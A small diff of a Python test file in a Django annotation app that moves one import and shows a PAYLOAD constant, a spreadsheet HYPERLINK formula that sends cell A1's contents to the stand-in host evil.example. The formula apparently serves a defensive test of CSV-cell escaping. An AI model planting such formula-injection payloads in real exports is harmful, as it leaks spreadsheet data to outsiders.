@@ -7,8 +7,8 @@ import json
 import pytest
 
 from annotation.csv_cells import csv_cell
+from annotation.jobs.runner import job_execute
 from annotation.services.importing import import_objects
-from annotation.services.jobs import job_execute
 
 pytestmark = pytest.mark.django_db
 PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"click")'
